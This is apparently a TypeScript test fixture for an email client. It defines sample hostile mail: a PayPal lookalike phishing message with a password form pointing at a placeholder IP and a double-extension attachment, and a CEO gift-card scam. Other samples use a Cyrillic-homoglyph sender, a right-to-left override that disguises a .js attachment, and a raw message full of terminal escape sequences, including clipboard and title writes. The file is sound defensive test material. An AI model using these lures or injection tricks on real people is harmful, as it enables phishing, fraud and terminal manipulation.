/** Mail that means harm, or looks like it. All of it is harmless here: no address, no link and no
 * attachment leads anywhere. */
import { ago, at, type Letter, type RawLetter } from '../letter.js';
import { MIRA_AT_WORK, type Person } from '../people.js';
import { headerDate, rawMessage } from '../raw.js';

const stranger = (name: string, address: string): Person => ({ name, address });

/** Begins like a program, and is text. */
const NOT_A_PROGRAM = Buffer.from(
  'MZ\x90\x00 This is not a program. It only looks like one from far away.\r\n',
  'latin1',
);

export const HOSTILE: readonly Letter[] = [
  {
    id: 'phish-1',
    // a capital I at the end
    from: stranger('PayPaI Security', 'security@paypai.example'),
    replyTo: stranger('PayPal', 'collect.4471@quick-cash.test'),
    to: [MIRA_AT_WORK],
    subject: 'Your account has been Iimited: action required within 24 hours',
    when: ago(143),
    unread: true,
    text: `Dear Costumer,

we noticed a unusual sign-in from a boat. Your account is limited.
Confirm your identity within 24 hours: https://www.paypal.example/confirm

PayPaI Security
`,
    html: `<html><body style="font-family:Arial,sans-serif">
<div style="background:#003087;color:#fff;padding:14px;font-size:22px"><b><i>PayPaI</i></b></div>
<p>Dear Costumer,</p>
<p>we noticed a unusual sign-in from <b>a boat</b>. Your account is limited until you confirm your identity:</p>
<p><a href="http://192.0.2.66/paypal.example/login.php?id=mira">https://www.paypal.example/confirm</a></p>
<p>The invoice for the suspicious purchase (1 &times; anchor, 899.00) is attached.</p>
<p style="color:#ffffff;font-size:1px">ferry release minutes kettle herring timetable invoice thanks</p>
<form action="http://192.0.2.66/collect"><input type="password" name="p"><input type="submit" value="Confirm"></form>
</body></html>
`,
    attachments: [
      {
        filename: 'invoice.pdf.exe',
        contentType: 'application/pdf',
        content: NOT_A_PROGRAM,
      },
    ],
  },
  {
    id: 'phish-2',
    from: stranger('Priya Raman', 'priya.raman.ceo@freemail.test'),
    to: [MIRA_AT_WORK],
    subject: 'Quick favour',
    when: at(2, '11:50'),
    text: `Mira are you at your desk? I am in a meeting and cannot talk.

I need 6 gift cards for the customers, 200 each. Scratch them and send
me the codes. Do not tell Tomas it is a surprise.

Sent from my boat
`,
  },
  {
    id: 'phish-3',
    // Cyrillic letters in the name, a direction override in the file name
    from: stranger('Hеrоn Wоrks IT', 'it-desk@hеronworks.test'),
    to: [MIRA_AT_WORK],
    subject: 'Mailbox is 99.98% full \u202egnp.xobliam\u202c',
    folder: 'Junk',
    when: at(3, '04:04'),
    unread: true,
    text: `Your mailbox is 99.98% full. Open the picture to make it larger.
`,
    attachments: [
      {
        filename: 'mailbox_\u202egnp.js',
        contentType: 'image/png',
        content: 'window.alert("a picture, honestly");\n',
      },
    ],
  },
  {
    id: 'junk-1',
    from: stranger('Dr. Barnacle', 'offers@barnacle-b-gone.test'),
    to: [MIRA_AT_WORK],
    subject: 'HULLS HATE HIM!! One weird trick removes barnacles overnight',
    folder: 'Junk',
    when: at(2, '22:11'),
    text: `BARNACLES? On YOUR hull?? In THIS tide???

Order B-GONE now and receive a SECOND B-GONE, which removes the first.
`,
  },
  {
    id: 'junk-2',
    from: stranger('Prince of Tides', 'prince@royal-tides.test'),
    to: [MIRA_AT_WORK],
    subject: 'CONFIDENTIAL: 14,000,000 litres',
    folder: 'Junk',
    when: at(6, '23:59'),
    text: `Dear Friend,

my late father left fourteen million litres of sea water in a lagoon and
I need a person of trust abroad to receive it. You may keep 20 percent.

Please send a bucket as advance payment.
`,
  },
  {
    id: 'junk-3',
    from: stranger('SEO Wizard', 'wizard@rankings.test'),
    to: [MIRA_AT_WORK],
    subject: 'Re: Re: Fwd: your website is on page 2',
    folder: 'Junk',
    when: at(9, '05:30'),
    text: `I visited your website heronworks.example and found 214 errors. One of
them is you are not paying me. Shall we fix this on a call?
`,
  },
];

export const HOSTILE_RAW: readonly RawLetter[] = [
  {
    // escape sequences for a terminal, where they must do nothing at all
    when: ago(64),
    unread: true,
    raw: (date) =>
      rawMessage(
        [
          ['From', 'Terminal Velocity <tv@escape.test>'],
          ['To', 'mira@heronworks.example'],
          [
            'Subject',
            '\x1b]0;your title is mine\x07\x1b[2J\x1b[31mIf this is red, switch it off\x1b[0m',
          ],
          ['Date', headerDate(date)],
          ['Message-ID', '<escapes@escape.test>'],
          ['MIME-Version', '1.0'],
          ['Content-Type', 'text/plain; charset=utf-8'],
          ['Content-Transfer-Encoding', '8bit'],
        ],
        `If your mail program is a careful one, you now read some odd marks and
nothing else has happened.

  title      \x1b]0;hello from the body\x07
  colours    \x1b[41;97m RED \x1b[0m
  clear      \x1b[2J\x1b[H
  clipboard  \x1b]52;c;b29wcw==\x07
  bell       \x07
  C1         \u009b31m and \u009d0;x\u009c
  direction  \u202etfel ot thgir\u202c
  nothing    a\u200bb\u200bc\u2060

Fair winds.
`,
      ),
  },
];
